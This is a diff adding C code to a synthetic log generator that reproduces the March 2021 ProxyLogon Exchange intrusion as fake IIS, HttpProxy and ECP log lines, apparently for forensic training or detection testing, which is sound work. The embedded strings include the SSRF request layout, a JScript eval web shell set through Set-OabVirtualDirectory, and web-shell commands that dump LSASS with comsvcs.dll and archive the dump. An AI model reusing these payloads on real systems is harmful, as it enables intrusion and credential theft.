@@ -1,0 +1,193 @@
+/*
+ * exgen: the intrusion.  The fixed timeline of the March 2021 ProxyLogon
+ * attack (the same in every seed) and the log lines each event writes.
+ */
+#include "exgen.h"
+
+enum { AK_IIS, AK_SSRF, AK_PATCH };
+enum { SS_AUTOD = 1, SS_MAPI, SS_LOGON, SS_GET, SS_SET, SS_RESET };
+
+typedef struct {
+	unsigned mo, d, h, mi, s, ms; /* 2021, UTC */
+	int kind, ssrf, ua, status;
+	const char *ip, *method, *stem, *query, *stage, *desc;
+	uint32_t tt;
+} Atk;
+
+#define SSRF_PREFIX "ServerInfo~a]@" HOST_FQDN ":444"
+static const char *const SSRF_PATH[] = {
+    "",
+    "/autodiscover/autodiscover.xml?#",
+    "/mapi/emsmdb/?#",
+    "/ecp/proxyLogon.ecp?#",
+    "/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=" ATK_CANARY "&schema=OABVirtualDirectory#",
+    "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" ATK_CANARY "&schema=OABVirtualDirectory#",
+    "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" ATK_CANARY "&schema=ResetOABVirtualDirectory#",
+};
+static const char *const SSRF_BE_STEM[] = {"", "/autodiscover/autodiscover.xml", "/mapi/emsmdb/",
+                                           "/ecp/proxyLogon.ecp", "/ecp/DDI/DDIService.svc/GetObject",
+                                           "/ecp/DDI/DDIService.svc/SetObject",
+                                           "/ecp/DDI/DDIService.svc/SetObject"};
+static const char *const SSRF_BE_QUERY[] = {"", "", "", "",
+                                            "msExchEcpCanary=" ATK_CANARY "&schema=OABVirtualDirectory",
+                                            "msExchEcpCanary=" ATK_CANARY "&schema=OABVirtualDirectory",
+                                            "msExchEcpCanary=" ATK_CANARY "&schema=ResetOABVirtualDirectory"};
+
+#define IISA(mo_, d_, h_, mi_, s_, ms_, ip_, ua_, m_, stem_, q_, st_, tt_, stage_, desc_)                     \
+	{(mo_), (d_), (h_), (mi_), (s_), (ms_), AK_IIS, 0, (ua_), (st_), (ip_), (m_), (stem_), (q_), (stage_), (desc_), \
+	 (tt_)}
+#define SSRFA(mo_, d_, h_, mi_, s_, ms_, ss_, ua_, st_, tt_, stage_, desc_)                                         \
+	{(mo_), (d_), (h_), (mi_), (s_), (ms_), AK_SSRF, (ss_), (ua_), (st_), ACTOR_A, "POST", "/ecp/y.js", "", (stage_), \
+	 (desc_), (tt_)}
+#define SCAN(d_, h_, mi_, s_, ip_, ua_, stem_)                                                                        \
+	IISA(3, d_, h_, mi_, s_, 0, ip_, ua_, "GET", stem_, "", 404, 15, "scan",                                          \
+	     "mass scanner probes for a known web shell")
+
+static const Atk ATK[] = {
+    IISA(3, 3, 5, 37, 12, 412, ACTOR_A, UA_BAIDU, "POST", "/owa/auth/Current/themes/resources/logon.css", "", 200, 46,
+         "recon", "POST to a static OWA file with a Baiduspider user agent"),
+    IISA(3, 3, 5, 37, 48, 930, ACTOR_A, UA_BAIDU, "POST", "/owa/auth/Current/themes/resources/logon.css", "", 200, 31,
+         "recon", "POST to a static OWA file with a Baiduspider user agent"),
+    SSRFA(3, 3, 6, 49, 42, 162, SS_AUTOD, UA_ESC0, 200, 187, "ssrf",
+          "CVE-2021-26855 SSRF to /autodiscover/autodiscover.xml (legacyDN disclosure)"),
+    SSRFA(3, 3, 6, 49, 43, 540, SS_MAPI, UA_PYREQ, 200, 96, "ssrf", "CVE-2021-26855 SSRF to /mapi/emsmdb (SID disclosure)"),
+    SSRFA(3, 3, 6, 49, 46, 71, SS_LOGON, UA_PYREQ, 241, 142, "ssrf",
+          "CVE-2021-26855 SSRF to /ecp/proxyLogon.ecp (ECP session as administrator)"),
+    SSRFA(3, 3, 6, 49, 51, 318, SS_GET, UA_PYREQ, 200, 531, "oab-abuse",
+          "DDIService GetObject OABVirtualDirectory via SSRF"),
+    SSRFA(3, 3, 6, 49, 53, 806, SS_SET, UA_PYREQ, 200, 1204, "oab-abuse",
+          "CVE-2021-27065: Set-OabVirtualDirectory ExternalUrl with JScript web shell"),
+    SSRFA(3, 3, 6, 59, 20, 245, SS_RESET, UA_PYREQ, 200, 2350, "webshell-drop",
+          "CVE-2021-27065: Reset-OabVirtualDirectory writes the web shell to owa\\auth"),
+    IISA(3, 3, 7, 2, 14, 620, ACTOR_A, UA_PYREQ, "POST", "/owa/auth/" SHELL1 ".aspx", "", 200, 78, "webshell-use",
+         "POST to the OAB web shell"),
+    IISA(3, 3, 7, 5, 33, 107, ACTOR_A, UA_PYREQ, "POST", "/owa/auth/" SHELL1 ".aspx", "", 200, 112, "webshell-use",
+         "POST to the OAB web shell (writes the China Chopper shell in aspnet_client)"),
+    IISA(3, 3, 7, 11, 2, 883, ACTOR_A, UA_PYREQ, "POST", "/owa/auth/" SHELL1 ".aspx", "", 200, 65, "webshell-use",
+         "POST to the OAB web shell"),
+    IISA(3, 3, 7, 13, 40, 2, ACTOR_A, UA_FIREFOX, "GET", "/aspnet_client/system_web/" SHELL2 ".aspx", "cmd=whoami", 200,
+         203, "webshell-use", "web shell command: whoami"),
+    IISA(3, 3, 7, 15, 5, 517, ACTOR_A, UA_FIREFOX, "GET", "/aspnet_client/system_web/" SHELL2 ".aspx",
+         "cmd=powershell+rundll32.exe+C:\\windows\\System32\\comsvcs.dll+MiniDump+" LSASS_PID
+         "+C:\\windows\\temp\\lsass.dmp+full",
+         200, 4518, "credential-access", "web shell command: LSASS dump with comsvcs.dll MiniDump"),
+    IISA(3, 3, 7, 21, 48, 266, ACTOR_A, UA_FIREFOX, "GET", "/aspnet_client/system_web/" SHELL2 ".aspx",
+         "cmd=C:\\ProgramData\\VSPerfMon\\7za.exe+a+C:\\ProgramData\\VSPerfMon\\a.7z+C:\\windows\\temp\\lsass.dmp",
+         200, 2764, "collection", "web shell command: archive the dump to C:\\ProgramData\\VSPerfMon\\a.7z"),
+    IISA(3, 4, 8, 14, 9, 351, ACTOR_B, UA_FF68, "GET", "/owa/auth/" SHELL1 ".aspx", "", 200, 41, "second-actor",
+         "second actor checks the OAB web shell"),
+    IISA(3, 4, 8, 14, 31, 790, ACTOR_B, UA_ANTSWORD, "POST", "/aspnet_client/system_web/" SHELL2 ".aspx", "", 200, 188,
+         "second-actor", "second actor uses the China Chopper shell with antSword"),
+    {3, 5, 21, 40, 0, 0, AK_PATCH, 0, UA_NONE, 0, "", "", "", "", "patch",
+     "security update installed, build 15.1.2176.9, IIS restarted", 0},
+    SCAN(8, 2, 13, 55, "45.77.252.175", UA_PYREQ, "/owa/auth/errorEE.aspx"),
+    SCAN(8, 2, 13, 56, "45.77.252.175", UA_PYREQ, "/aspnet_client/xx.aspx"),
+    SCAN(8, 14, 40, 3, "194.87.69.35", UA_GO, "/owa/auth/shell.aspx"),
+    SCAN(9, 4, 2, 17, "103.77.192.219", UA_OLDFF, "/owa/auth/errorEE.aspx"),
+    SCAN(9, 4, 2, 18, "103.77.192.219", UA_OLDFF, "/owa/auth/shell.aspx"),
+    SCAN(9, 19, 31, 44, "185.220.101.46", UA_CURL, "/aspnet_client/xx.aspx"),
+    SCAN(10, 0, 55, 9, "161.35.45.41", UA_PYREQ, "/owa/auth/shell.aspx"),
+    SCAN(10, 11, 8, 30, "45.77.252.175", UA_PYREQ, "/owa/auth/errorEE.aspx"),
+    SCAN(11, 6, 21, 12, "89.34.111.11", UA_ZGRAB, "/aspnet_client/xx.aspx"),
+    SCAN(11, 6, 21, 13, "89.34.111.11", UA_ZGRAB, "/owa/auth/errorEE.aspx"),
+    SCAN(12, 3, 47, 58, "194.87.69.35", UA_GO, "/owa/auth/shell.aspx"),
+    SCAN(12, 16, 2, 40, "5.2.69.50", UA_PYREQ, "/aspnet_client/xx.aspx"),
+};
+#define NATK ((int)(sizeof ATK / sizeof ATK[0]))
+
+int attack_count(void) { return NATK; }
+
+/* When attack event i happens, epoch ms. */
+int64_t attack_time(int i)
+{
+	const Atk *a = &ATK[i];
+	return ms_at(2021, a->mo, a->d, a->h, a->mi, a->s, a->ms);
+}
+
+void emit_attack(Gen *g, int i)
+{
+	const Atk *a = &ATK[i];
+	int64_t at = attack_time(i);
+	Event ev = {a->stage, a->desc, a->ip[0] ? a->ip : ""};
+	Req q;
+	Rng r;
+	rng_seed(&r, mix3(0xA77AC4, (uint64_t)at, 7)); /* same in every seed */
+	req_init(&q, &r, at);
+	g->cur = &ev;
+	if (a->kind == AK_PATCH) {
+		g->patched = true;
+		/* Services restart: IIS writes fresh header blocks, Exchange rolls its logs.
+		 * The timeline points at the "#Software" line of each new header block. */
+		if (g->want_iis) {
+			for (int be = 0; be < 2; be++) {
+				Out *o = be ? &g->o_iis2 : &g->o_iis1;
+				if (o->f) {
+					const FileRec *r0 = &g->recs[o->rec];
+					tl_push(g, o->rec, r0->data + r0->hdr + 1, at);
+					iis_header(g, o, at, be ? 0 : g->iis1_fields);
+				} else {
+					iis_out(g, be, at); /* first log of the day: its header is the restart */
+					tl_push(g, o->rec, 1, at);
+				}
+			}
+		}
+		for (int p = 0; p < P_N; p++)
+			out_close(&g->o_hp[p]);
+		out_close(&g->o_rps);
+		g->hp_gen = 2;
+		g->cur = NULL;
+		return;
+	}
+	q.cip = sz(a->ip);
+	q.method = a->method;
+	q.stem = sz(a->stem);
+	q.query = sz(a->query);
+	q.ua = a->ua;
+	q.status = a->status;
+	q.win32 = a->status == 404 ? 2 : 0;
+	q.tt = a->tt;
+	if (a->kind == AK_SSRF) {
+		q.proxied = true;
+		q.proto = P_ECP;
+		q.backend = true;
+		q.be_stem = sz(SSRF_BE_STEM[a->ssrf]);
+		q.be_user = a->ssrf >= SS_GET ? SL("CONTOSO\\Administrator") : SL("CONTOSO\\EXCH01$");
+		q.anchor = BCAT(q.b_anchor, SL(SSRF_PREFIX), sz(SSRF_PATH[a->ssrf]));
+		q.target = BCAT(q.b_target, SL("a]@" HOST_FQDN ":444"), sz(SSRF_PATH[a->ssrf]));
+		q.rhint = SL("X-BEResource-Cookie");
+		q.rtype = S0;
+		q.be_status = a->status;
+		q.req_bytes = a->ssrf >= SS_SET ? 2100 : 412;
+		q.resp_bytes = a->ssrf == SS_AUTOD ? 4130 : 1022;
+		if (a->ssrf >= SS_GET) {
+			q.ecp = true;
+			q.ecp_url = BCAT(q.b_url, sz(SSRF_BE_STEM[a->ssrf]), SL("?"), sz(SSRF_BE_QUERY[a->ssrf]));
+			if (a->ssrf == SS_GET)
+				q.ecp_cmd = SL("Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null");
+			else if (a->ssrf == SS_SET)
+				q.ecp_cmd = SL("Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" "
+				               "runat=\"server\">function Page_Load(){eval(Request[\"" SHELL1_PW
+				               "\"],\"unsafe\");}</script>'.Identity='" OABVD_GUID "'");
+			else
+				q.ecp_cmd = SL("Reset-OabVirtualDirectory.Identity='" OABVD_GUID "'.FilePathName='" SHELL1_UNC "'");
+		}
+		/* In the back end the SSRF target keeps its own query string. */
+		if (g->want_iis) {
+			write_iis(g, &q, false, false);
+			Req b = q;
+			b.query = sz(SSRF_BE_QUERY[a->ssrf]);
+			write_iis(g, &b, true, false);
+		}
+		if (g->want_hp)
+			write_hp(g, &q, false);
+		if (g->want_misc && q.ecp)
+			write_ecp(g, &q);
+		if (g->want_misc && a->ssrf == SS_RESET)
+			write_oab(g, at + 1187, "Warning",
+			          SL("Download failed and temporary file '" SHELL1_UNC "' needs to be removed"));
+	} else if (g->want_iis) {
+		write_iis(g, &q, false, false);
+	}
+	g->last_t = at;
+	g->cur = NULL;
+}
